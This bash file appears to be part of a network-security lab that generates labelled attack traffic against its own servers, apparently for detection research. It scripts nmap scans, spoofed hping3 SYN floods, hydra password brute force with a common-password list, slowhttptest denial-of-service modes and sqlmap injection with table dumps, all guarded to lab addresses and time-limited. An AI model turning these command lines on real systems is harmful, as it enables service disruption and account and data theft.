# shellcheck shell=bash
# shellcheck disable=SC2034,SC2153  # RUN_TOOLS/RUN_NOTES are read by run.sh; settings come from lib.sh
# Scenario functions for lab/run.sh. Sourced after lib.sh; run.sh sets these per run:
#   RUN_DIR, SEED, C_ADDRS (client sources), A_ADDRS (attacker sources), T_ADDRS (server
#   targets), T_HTTP T_HTTPS T_SSH (server ports picked for this run), A_TTL, RUN_SECS.
# Every tool call is wrapped in `timeout` and has its own count or rate limit; attack tools run
# only in fcl-attacker and only ever get a server address from SERVER_ADDRS.

SSH_OPTS=(-F /dev/null -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o LogLevel=ERROR
  -o ConnectTimeout=5 -o ServerAliveInterval=5)
WEB_NAMES=(www files api cdn docs)
DNS_NAMES=(www files api shell cdn docs git mail)

# A benign user's tool call (`cl timeout N cmd...`): past the user's deadline (USER_DEADLINE, set by benign_user
# in benign runs) no call runs more than a few seconds longer, so a run ends close to its planned length.
cl() {
  if [[ $1 == timeout && -n ${USER_DEADLINE:-} ]]; then
    local left=$((USER_DEADLINE - EPOCHSECONDS + 4))
    ((left < 3)) && left=3
    (($2 > left)) && set -- timeout "$left" "${@:3}"
  fi
  nsx "$NS_CLIENT" "$@"
}
at() { nsx "$NS_ATTACKER" "$@"; }

rsleep() { # rsleep MIN_MS MAX_MS
  local ms
  rand ms "$1" "$2"
  sleep "$((ms / 1000)).$(printf '%03d' $((ms % 1000)))"
}

guard_target() { # refuse anything that is not one of our own server addresses
  local t=$1 a
  for a in "${SERVER_ADDRS[@]}"; do [[ $t == "$a" ]] && return 0; done
  die "refusing to attack $t: not a lab server address"
}

# shellcheck source-path=SCRIPTDIR source=benign.sh
source "$LAB_DIR/benign.sh"

# ---------------------------------------------------------------- attacks (attacker ns)

# A port list that always contains a few of the server's open ports among closed ones.
port_list() { # port_list VAR COUNT
  # locals carry a _pl prefix: the nameref would otherwise bind to a local of the same name
  local -n _pl=$1
  local _pl_n=$2 _pl_ports=("$T_HTTP" "$T_HTTPS" "$T_SSH") _pl_p
  while ((${#_pl_ports[@]} < _pl_n)); do
    _pl_p=$((RANDOM % 12000 + 1))
    _pl_ports+=("$_pl_p")
  done
  pick_n _pl_ports "${#_pl_ports[@]}" "${_pl_ports[@]}"
  _pl=$(
    IFS=,
    echo "${_pl_ports[*]}"
  )
}

# UDP ports a scan of "the usual services" tries: the server answers on 53 (dnsmasq) and 123 (NTP), the others
# are closed and answer with ICMP port unreachable (rate-limited by the server's kernel, as on any Linux host).
UDP_SCAN_PORTS=(53 67 69 123 137 161 162 500 514 520 1194 1900 4500 5353 11211)

run_nmap() { # run_nmap KIND SECS
  local kind=$1 secs=$2 rate ports="" n tmpl targets=() extra=() small=0
  rand rate 200 1500
  pick tmpl -T2 -T3 -T3 -T4 -T4 -T4 -T5 -T5
  # a polite timing (-T2 waits 0.4 s between probes) or an explicit --scan-delay only fits a short list
  if [[ $tmpl == -T2 ]] || chance 15; then small=1; fi
  targets=("${T_ADDRS[@]}")
  if ((small)); then
    rand n 10 40
    port_list ports "$n"
    [[ $tmpl != -T2 ]] && extra+=(--scan-delay "$((RANDOM % 300 + 20))ms")
  else
    case $((RANDOM % 4)) in
    0) ports="1-1024" ;;
    1) rand n 100 1000; extra+=(--top-ports "$n") ;;
    2) rand n 1500 6000; ports="1-$n" ;;
    3) rand n 30 400; port_list ports "$n" ;;
    esac
  fi
  chance 50 && extra+=(-Pn)
  case $kind in
  syn)
    extra+=(-sS --ttl "$A_TTL")
    chance 20 && extra+=(-g 53)
    chance 15 && extra+=(-O --max-os-tries 1) ;;
  connect) extra+=(-sT) ;;
  stealth) # FIN, Xmas or NULL probes: Linux answers RST on closed ports and nothing on open ones
    local flavour
    pick flavour -sF -sX -sN
    extra+=("$flavour" --ttl "$A_TTL") ;;
  ack) extra+=(-sA --ttl "$A_TTL") ;;
  udp) # a few UDP ports, sometimes with a TCP SYN scan of a short list alongside
    local u
    pick_n u "$((RANDOM % 8 + 4))" "${UDP_SCAN_PORTS[@]}"
    ports="U:$(IFS=,; echo "${u[*]}")"
    extra=(-sU -Pn --ttl "$A_TTL")
    if chance 40; then
      local tcp
      port_list tcp "$((RANDOM % 20 + 5))"
      extra+=(-sS)
      ports+=",T:$tcp"
    fi
    chance 40 && extra+=(-sV --version-intensity 2) ;;
  version)
    # version probing is slow per open port; closed ones cost one RST, so the list can be longer
    rand n 30 150
    port_list ports "$n"
    extra=(-sV --version-intensity "$((RANDOM % 6 + 2))" -Pn)
    chance 50 && extra+=(-sT) ;;
  esac
  [[ -n $ports ]] && extra+=(-p "$ports")
  local t
  for t in "${targets[@]}"; do guard_target "$t"; done
  RUN_TOOLS+=("nmap $tmpl -n --max-rate $rate --max-retries 2 --host-timeout $((secs - 5))s ${extra[*]} ${targets[*]}")
  at timeout "$secs" nmap "$tmpl" -n --max-rate "$rate" --max-retries 2 --host-timeout "$((secs - 5))s" -e eth0 \
    "${extra[@]}" "${targets[@]}" >>"$RUN_DIR/tool.log" 2>&1 || true
}

scenario_portscan() {
  # FCL_PORTSCAN_KINDS narrows the kinds drawn (a test of the alert path sets it; a run of the lab never needs it)
  local kinds first second
  read -r -a kinds <<<"${FCL_PORTSCAN_KINDS:-syn syn connect connect version stealth udp ack}"
  pick first "${kinds[@]}"
  # a second scan of another kind from a second address in some runs; the two share the time of one
  if chance 40; then
    run_nmap "$first" 22
    pick second "${kinds[@]}"
    rsleep 200 2000
    set_src_addr "$NS_ATTACKER" "${A_ADDRS[-1]}"
    run_nmap "$second" 16
  else
    run_nmap "$first" 35
  fi
}

# A flood from spoofed sources gets no RSTs back for the server's SYN-ACKs; dropping the
# attacker kernel's RSTs gives that shape while keeping the real, labelled source address.
drop_attacker_rsts() {
  at nft -f - <<'NFT'
table inet fcl_lab {
  chain out {
    type filter hook output priority 0; policy accept;
    tcp flags & rst == rst drop
  }
}
NFT
}

clear_attacker_filter() {
  at nft delete table inet fcl_lab 2>/dev/null || true
}

scenario_synflood() {
  local i src port count gap extra=()
  if chance 50; then
    drop_attacker_rsts
    RUN_NOTES+=("attacker RSTs dropped (spoofed-flood shape)")
  fi
  for i in "${!A_ADDRS[@]}"; do
    src=${A_ADDRS[i]}
    if chance 55; then
      port=$T_HTTP
    elif chance 60; then
      pick port "$T_SSH" "$T_HTTPS"
    else
      pick port "$T_FTP" "${SMTP_PORTS[0]}" "$MYSQL_PORT" "$PG_PORT" "${REDIS_PORTS[0]}" "${MQTT_PORTS[0]}" "$IMAP_PORT"
    fi
    rand count 1000 3000
    rand gap 150 1500
    extra=()
    chance 40 && extra+=(-w "$((RANDOM % 60000 + 1024))")
    chance 25 && extra+=(-d "$((RANDOM % 120 + 1))")
    chance 30 && extra+=(-s "$((RANDOM % 30000 + 1025))")
    guard_target "${T_ADDRS[0]}"
    RUN_TOOLS+=("hping3 -S -p $port -c $count -i u$gap -a $src --ttl $A_TTL ${extra[*]} ${T_ADDRS[0]}")
    at timeout 20 hping3 -q -S -I eth0 -p "$port" -c "$count" -i "u$gap" -a "$src" --ttl "$A_TTL" \
      "${extra[@]}" "${T_ADDRS[0]}" >>"$RUN_DIR/tool.log" 2>&1 || true
  done
  # the filter stays until run.sh has stopped the capture: the server retransmits SYN-ACKs
}

make_wordlists() {
  local users=(root admin labuser test user guest oracle ubuntu pi alice bob postgres deploy)
  local common=(123456 password 12345678 qwerty 123456789 12345 1234 111111 1234567 dragon
    123123 baseball abc123 football monkey letmein 696969 shadow master 666666 qwertyuiop
    123321 mustang 1234567890 michael 654321 superman 1qaz2wsx 7777777 121212 000000 qazwsx
    123qwe killer trustno1 jordan jennifer zxcvbnm asdfgh hunter buster soccer harley batman
    andrew tigger charlie robert thomas hockey ranger daniel starwars klaster 112233 george
    computer michelle jessica pepper 1111 zxcvbn 555555 11111111 131313 freedom 777777 pass
    maggie 159753 aaaaaa ginger princess joshua cheese amanda summer love ashley nicole)
  local nu np sel=() i
  rand nu 1 4
  pick_n sel "$nu" "${users[@]}"
  chance 60 && sel+=("$LAB_USER")
  printf '%s\n' "${sel[@]}" | sort -u >"$RUN_DIR/users.txt"
  rand np 15 60
  pick_n sel "$np" "${common[@]}"
  for ((i = 0; i < 5; i++)); do sel+=("$(printf 'p%x%x' "$RANDOM" "$RANDOM")"); done
  # sometimes the real password is there, so some runs contain a successful login
  chance 40 && sel+=("$LAB_PASS")
  pick_n sel "${#sel[@]}" "${sel[@]}"
  printf '%s\n' "${sel[@]}" >"$RUN_DIR/passwords.txt"
}

# hydra against one service of the first target: SSH, FTP, HTTP basic auth (/admin/), the login form over HTTP
# or HTTPS, IMAP, POP3, PostgreSQL or the password of the Redis on port 6380.
run_hydra() { # run_hydra SERVICE
  local svc=$1 tasks cmd=() target=${T_ADDRS[0]} form="/app/login:username=^USER^&password=^PASS^:F=Invalid"
  guard_target "$target"
  # the login protocols try several passwords per connection, so more tasks (connections) in parallel
  case $svc in
  ssh | ftp | imap | pop3 | postgres) rand tasks 4 12 ;;
  *) rand tasks 2 6 ;;
  esac
  cmd=(hydra -I -L "$RUN_DIR/users.txt" -P "$RUN_DIR/passwords.txt" -t "$tasks" -w 5 -o "$RUN_DIR/hydra.out")
  chance 30 && cmd+=(-f)
  chance 20 && cmd+=(-e nsr) # also the empty password, the login as password and its reverse
  case $svc in
  ssh) cmd+=(-s "$T_SSH" "ssh://$target") ;;
  ftp) cmd+=(-s "$T_FTP" "ftp://$target") ;;
  http-basic) cmd+=(-s "$T_HTTP" "$target" http-get /admin/) ;;
  https-basic) cmd+=(-s "$T_HTTPS" "$target" https-get /admin/) ;;
  http) cmd+=(-s "$T_HTTP" "$target" http-post-form "$form") ;;
  https) cmd+=(-s "$T_HTTPS" "$target" https-post-form "$form") ;;
  imap) cmd+=(-s "$IMAP_PORT" "imap://$target") ;;
  pop3) cmd+=(-s "$POP3_PORT" -m CLEAR "pop3://$target") ;; # USER/PASS; its default AUTH fails on dovecot
  postgres) cmd+=(-s "$PG_PORT" "postgres://$target") ;;
  redis) cmd=(hydra -I -P "$RUN_DIR/passwords.txt" -t "$tasks" -w 5 -o "$RUN_DIR/hydra.out" -s "${REDIS_PORTS[1]}" "redis://$target") ;;
  esac
  RUN_TOOLS+=("${cmd[*]}")
  # hydra writes a restore file into its working directory
  (cd "$RUN_DIR" && at timeout 20 "${cmd[@]}" >>"$RUN_DIR/tool.log" 2>&1) || true
  rm -f "$RUN_DIR/hydra.restore"
}

scenario_bruteforce() {
  make_wordlists
  local plan
  local plans=(ssh ssh ftp http http-basic https https-basic imap pop3 postgres redis ssh+http ftp+ssh http-basic+ssh)
  pick plan "${plans[@]}"
  # LAB_BRUTEFORCE_PLAN picks the plan instead (to record a login target the seeds rarely draw); the draw above
  # still happens, so every other choice of the seed stays as it was
  if [[ -n ${LAB_BRUTEFORCE_PLAN:-} ]]; then
    [[ " ${plans[*]} " == *" $LAB_BRUTEFORCE_PLAN "* ]] ||
      die "LAB_BRUTEFORCE_PLAN=$LAB_BRUTEFORCE_PLAN is not a plan; use one of: ${plans[*]}"
    plan=$LAB_BRUTEFORCE_PLAN
    RUN_NOTES+=("plan chosen by LAB_BRUTEFORCE_PLAN")
  fi
  RUN_NOTES+=("plan=$plan")
  local first=${plan%%+*} second=${plan#*+}
  run_hydra "$first"
  if [[ $second != "$first" ]]; then
    set_src_addr "$NS_ATTACKER" "${A_ADDRS[-1]}"
    run_hydra "$second"
  fi
}

# slowhttptest in one of its modes: slowloris (-H, headers that never end), slow body (-B, a POST body sent a few
# bytes at a time), or slow read (-X, a response read through a tiny receive window).
scenario_slowloris() {
  local conns rate secs mode url target=${T_ADDRS[0]} base path args=()
  guard_target "$target"
  rand conns 100 400
  rand rate 20 150
  rand secs 12 20
  if chance 65; then base="http://$target:$T_HTTP"; else base="https://$target:$T_HTTPS"; fi
  pick mode H H B X
  # LAB_SLOWLORIS_MODE (H, B or X) and LAB_SLOWLORIS_SCHEME (http or https) pick the variant instead (to record one
  # the seeds rarely draw); the draws above still happen, so every other choice of the seed stays as it was
  case ${LAB_SLOWLORIS_SCHEME:-} in
  '') ;;
  http) base="http://$target:$T_HTTP" ;;
  https) base="https://$target:$T_HTTPS" ;;
  *) die "LAB_SLOWLORIS_SCHEME=$LAB_SLOWLORIS_SCHEME is not a scheme; use http or https" ;;
  esac
  case ${LAB_SLOWLORIS_MODE:-} in
  '') ;;
  H | B | X) mode=$LAB_SLOWLORIS_MODE ;;
  *) die "LAB_SLOWLORIS_MODE=$LAB_SLOWLORIS_MODE is not a mode; use H (headers), B (body) or X (slow read)" ;;
  esac
  [[ -n ${LAB_SLOWLORIS_MODE:-}${LAB_SLOWLORIS_SCHEME:-} ]] && RUN_NOTES+=("variant chosen by LAB_SLOWLORIS_MODE/SCHEME")
  case $mode in
  H)
    local verb
    pick verb GET GET POST
    pick path / /index.html /docs/page3.html /app/login /api.json
    args=(-H -i "$((RANDOM % 7 + 2))" -x "$((RANDOM % 33 + 8))" -t "$verb") ;;
  B) # the body goes through nginx's proxy buffering, which waits for all of it
    pick path /app/login /app/search?q=lamp /app/login
    args=(-B -i "$((RANDOM % 7 + 2))" -x "$((RANDOM % 33 + 8))" -s "$((RANDOM % 12288 + 4096))" -t POST) ;;
  X) # a large response read slowly
    pick path /files/blob-1024k.bin /files/blob-4096k.bin /docs/page20.html /static/img12.png
    args=(-X -w "$((RANDOM % 16 + 8))" -y "$((RANDOM % 32 + 24))" -n "$((RANDOM % 4 + 1))" -z "$((RANDOM % 64 + 16))"
      -k "$((RANDOM % 3 + 1))") ;;
  esac
  url=$base$path
  RUN_TOOLS+=("slowhttptest ${args[*]} -c $conns -r $rate -l $secs -u $url")
  at timeout $((secs + 10)) slowhttptest "${args[@]}" -c "$conns" -r "$rate" -l "$secs" -p 3 -u "$url" \
    >>"$RUN_DIR/tool.log" 2>&1 || true
}

run_sqlmap() { # run_sqlmap SECS
  local secs=$1 target=${T_ADDRS[0]} base level risk tech threads what extra=() url
  guard_target "$target"
  if chance 70; then base="http://$target:$T_HTTP"; else base="https://$target:$T_HTTPS"; fi
  pick level 1 1 1 2 2 3 4 5
  pick risk 1 1 2 3
  # boolean-blind, error-based, UNION, stacked queries, time-based blind, alone and combined
  pick tech BEU BEU BU BEUS E U B B BE T BT BEUST S ET
  rand threads 1 4
  case $((RANDOM % 3)) in
  0) url="$base/app/item?id=$((RANDOM % 10 + 1))" ;;
  1) url="$base/app/search?q=$(pick_word)" ;;
  2) url="$base/app/login"; extra+=(--data "username=$(pick_word)&password=$RANDOM") ;;
  esac
  # a time-based test waits --time-sec per guess; a short one keeps the run bounded
  [[ $tech == *T* ]] && extra+=(--time-sec "$((RANDOM % 2 + 1))")
  # the page gives in at once; what sqlmap is asked to fetch afterwards makes most of the traffic
  pick what --banner --dbs --tables --current-user "--dump -T users" "--dump -T items" --schema --count
  # SQLite has no sleep(): told the DBMS, a time-based test gives up after a few requests; untold, it tries the
  # payloads of every DBMS, as against an unknown site
  [[ $tech != *T* ]] && chance 50 && extra+=(--dbms=SQLite)
  chance 50 && extra+=(--random-agent)
  chance 30 && extra+=(--skip-heuristics)
  if chance 25; then
    local tamper
    pick tamper space2comment between randomcase charencode space2comment,randomcase
    extra+=(--tamper "$tamper")
  fi
  # shellcheck disable=SC2206  # "what" is one option or an option with its value
  extra+=($what)
  RUN_TOOLS+=("sqlmap -u $url --batch --level $level --risk $risk --technique $tech --threads $threads ${extra[*]}")
  at timeout "$secs" sqlmap -u "$url" --batch --flush-session --disable-coloring --output-dir="$RUN_DIR/sqlmap" \
    --level "$level" --risk "$risk" --technique "$tech" --threads "$threads" --timeout 5 --retries 1 \
    "${extra[@]}" >>"$RUN_DIR/tool.log" 2>&1 || true
}

# Two or three sqlmap sessions against different pages, as one attacker probing a site would.
scenario_sqli() {
  local n i
  rand n 2 3
  for ((i = 0; i < n; i++)); do
    ((i > 0)) && set_src_addr "$NS_ATTACKER" "${A_ADDRS[i % ${#A_ADDRS[@]}]}"
    run_sqlmap "$((n == 2 ? 20 : 14))"
    rsleep 100 1500
  done
}
